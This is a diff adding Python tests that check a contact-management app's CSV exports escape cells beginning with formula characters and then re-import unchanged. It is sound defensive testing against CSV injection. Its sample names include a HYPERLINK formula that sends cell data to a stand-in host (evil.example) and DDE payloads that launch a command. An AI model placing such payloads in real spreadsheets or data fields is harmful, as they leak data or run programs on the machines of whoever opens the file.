@@ -6,15 +6,19 @@ import csv
 import io
 from pathlib import Path
 
+import httpx
 import pytest
 from openpyxl import Workbook
+from sqlalchemy import select
 
 from madoguchi.config import Settings
 from madoguchi.contacts import repository, transfer
+from madoguchi.contacts.models import Contact
 from madoguchi.crm import fields
 from madoguchi.kit.context import Ctx
 from madoguchi.kit.db import Database
 from madoguchi.kit.errors import Invalid
+from madoguchi.kit.spreadsheet import CsvWriter, restored
 from tests.test_cli import run
 
 HEADER = (
@@ -241,3 +245,98 @@ async def test_a_map_naming_a_column_the_file_lacks_is_refused_with_the_files_co
 )
 def test_the_salons_japanese_headers_are_recognised(headers: list[str], targets: list[str]) -> None:
     assert transfer.auto_mapping(headers, []) == dict(enumerate(targets))
+
+
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")  # OWASP's list, written out again on purpose
+HOSTILE_NAMES = [
+    '=HYPERLINK("http://evil.example/?x="&A1,"クリック")',
+    "+1+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "-2+3",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+
+async def test_exports_never_hand_excel_a_formula_and_import_back_the_same_names(
+    settings: Settings,
+    database: Database,
+    ctx: Ctx,
+    client: httpx.AsyncClient,
+    tmp_path: Path,
+) -> None:
+    """A customer chooses their own LINE name: in the owner's Excel it stays words."""
+    from datetime import UTC, datetime
+
+    from madoguchi.channels import service as channels
+    from madoguchi.conversations import service as conversations
+    from madoguchi.crm import records
+    from tests.fixtures import Factory, auth
+
+    await fields.create_field(ctx, key="points", label="来店ポイント", type="number")
+    await fields.create_field(ctx, key="note", label="備考", type="text")
+    await records.create_book(
+        ctx, name="対応記録", fields=[{"key": "memo", "label": "内容", "type": "text"}]
+    )
+    line = await channels.create_channel(ctx, kind="line", name="LINE")
+    for n, name in enumerate(HOSTILE_NAMES):
+        ingested = await conversations.ingest_inbound(
+            ctx,
+            channel=line,
+            contact_external_id=f"U{n}",
+            contact_name=name,
+            text="こんにちは",
+            external_id=None,
+        )
+        contact_id = ingested.conversation.contact_id
+        await fields.set_value(ctx, contact_id=contact_id, key="points", value=-5)
+        await fields.set_value(ctx, contact_id=contact_id, key="note", value="=1+2")
+        await records.create_record(
+            ctx,
+            contact_id=contact_id,
+            book="対応記録",
+            at=datetime(2026, 11, 2, 1, tzinfo=UTC),
+            values_={"memo": "@SUM(A1:A9)"},
+            author=None,
+        )
+    # Names are cleaned on the way in (a leading tab goes): what is kept is what must stay words.
+    stored = sorted(await ctx.db.scalars(select(Contact.display_name)))
+    assert all(name.startswith(FORMULA_STARTS) for name in stored)
+    await ctx.db.rollback()
+    token = await Factory(ctx).token(await Factory(ctx).member(role="owner"))
+
+    answer = await client.get("/settings/import-export/export", headers=auth(token))
+    assert answer.status_code == 200
+    rows = list(csv.DictReader(io.StringIO(answer.content.decode("utf-8-sig"), newline="")))
+    assert sorted(r["表示名"] for r in rows) == [f"'{name}" for name in stored]
+    assert sorted(r["チャネル名"] for r in rows) == [f"'{name}" for name in stored]
+    assert {r["備考"] for r in rows} == {"'=1+2"}
+    assert {r["来店ポイント"] for r in rows} == {"-5"}  # a number, not a formula: as it is
+    for row in rows:
+        texts = [cell for column, cell in row.items() if column != "来店ポイント"]
+        assert not any(cell.startswith(FORMULA_STARTS) for cell in texts)
+
+    out = tmp_path / "records.csv"
+    assert run(settings, "export", "records", str(out)).returncode == 0
+    records_rows = list(csv.DictReader(io.StringIO(out.read_bytes().decode("utf-8-sig"))))
+    assert {r["対応記録:内容"] for r in records_rows} == {"'@SUM(A1:A9)"}
+    assert sorted(r["表示名"] for r in records_rows) == [f"'{name}" for name in stored]
+
+    # The exported file imports back onto the same contacts with the names they had.
+    exported = tmp_path / "contacts.csv"
+    exported.write_bytes(answer.content)
+    back = run(settings, "import", "contacts", str(exported))
+    assert "0 created, 6 updated, 0 rejected" in back.stdout, back.stderr
+    assert sorted(await ctx.db.scalars(select(Contact.display_name))) == stored
+
+
+@pytest.mark.parametrize("cell", [*HOSTILE_NAMES, "=1", "+", "-", "@"])
+def test_a_cell_that_starts_a_formula_is_written_as_text_and_read_back_as_it_was(
+    cell: str,
+) -> None:
+    out = io.StringIO()
+    CsvWriter(out).writerow([cell, -3, 2.5, "普通の名前", "メール@example.jp"])
+    [row] = list(csv.reader(io.StringIO(out.getvalue(), newline="")))
+    assert row == [f"'{cell}", "-3", "2.5", "普通の名前", "メール@example.jp"]
+    assert [restored(c) for c in row] == [cell, "-3", "2.5", "普通の名前", "メール@example.jp"]
+    assert restored("'quoted on purpose") == "'quoted on purpose"
